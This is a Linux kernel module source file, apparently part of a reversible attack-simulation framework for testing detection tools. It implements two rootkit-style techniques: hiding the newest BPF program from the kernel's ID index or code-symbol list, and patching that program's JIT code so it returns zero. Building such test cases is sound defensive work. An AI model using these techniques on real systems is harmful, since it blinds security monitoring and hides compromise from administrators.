// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides the newest BPF program: out of the index by which user space finds
 * programs, or out of the list of their code. Or overwrites its code.
 */
#include <linux/bpf.h>
#include <linux/err.h>
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/rculist.h>
#include <linux/spinlock.h>
#include <linux/string.h>

#include "attacks.h"

static struct bpf_prog *hidden, *patched;
static bool is_unlisted;

/* None is exported. */
static struct idr *ids;
static spinlock_t *ids_lock, *list_lock;
static struct list_head *list;

static int find(void)
{
	ids = (struct idr *)symbol("prog_idr");
	ids_lock = (spinlock_t *)symbol("prog_idr_lock");
	list = (struct list_head *)symbol("bpf_kallsyms");
	list_lock = (spinlock_t *)symbol("bpf_lock");
	return ids && ids_lock && list && list_lock ? 0 : -ENOENT;
}

/*
 * Keeps the newest program whose code is listed until undo; NULL if there is
 * none. One that ends is still in the index.
 */
static struct bpf_prog *take_newest(void)
{
	struct bpf_prog *other, *newest = NULL;
	unsigned int id;

	spin_lock_bh(ids_lock);
	idr_for_each_entry(ids, other, id) {
		if (!list_empty(&other->aux->ksym.lnode))
			newest = other;
	}
	if (newest && IS_ERR(bpf_prog_inc_not_zero(newest)))
		newest = NULL;
	spin_unlock_bh(ids_lock);
	return newest;
}

/* The slot stays taken: otherwise another program would get the ID. */
static void set_indexed(bool indexed)
{
	spin_lock_bh(ids_lock);
	idr_replace(ids, indexed ? hidden : NULL, hidden->aux->id);
	spin_unlock_bh(ids_lock);
}

static void set_code_listed(bool listed)
{
	spin_lock_bh(list_lock);
	if (listed)
		list_add_tail_rcu(&hidden->aux->ksym.lnode, list);
	else
		list_del_rcu(&hidden->aux->ksym.lnode);
	spin_unlock_bh(list_lock);
}

static int bpf_begin(struct attack *attack, char *argument)
{
	int error;

	is_unlisted = !strcmp(argument, "list");
	if (!is_unlisted && strcmp(argument, "index"))
		return -EINVAL;
	error = find();
	if (error)
		return error;
	hidden = take_newest();
	if (!hidden)
		return -ENOENT;
	if (is_unlisted)
		set_code_listed(false);
	else
		set_indexed(false);
	attack_mark(attack, hidden->aux->ksym.name);
	return 0;
}

static void bpf_undo(struct attack *attack)
{
	if (is_unlisted)
		set_code_listed(true);
	else
		set_indexed(true);
	bpf_prog_put(hidden);
}

struct attack hide_bpf = {
	.name = "hide-bpf",
	.begin = bpf_begin,
	.undo = bpf_undo,
	.present = attack_stays,
};

static struct patch code;

/* The newest program returns 0. */
static int code_begin(struct attack *attack, char *unused)
{
	int error = find();

	if (error)
		return error;
	patched = take_newest();
	if (!patched)
		return -ENOENT;
	error = patch_to_zero(attack, &code, (u8 *)patched->bpf_func);
	if (error)
		bpf_prog_put(patched);
	return error;
}

static bool code_present(struct attack *attack)
{
	return patch_present(&code);
}

static void code_undo(struct attack *attack)
{
	patch_undo(&code);
	bpf_prog_put(patched);
}

struct attack patch_bpf = {
	.name = "patch-bpf",
	.begin = code_begin,
	.undo = code_undo,
	.present = code_present,
};
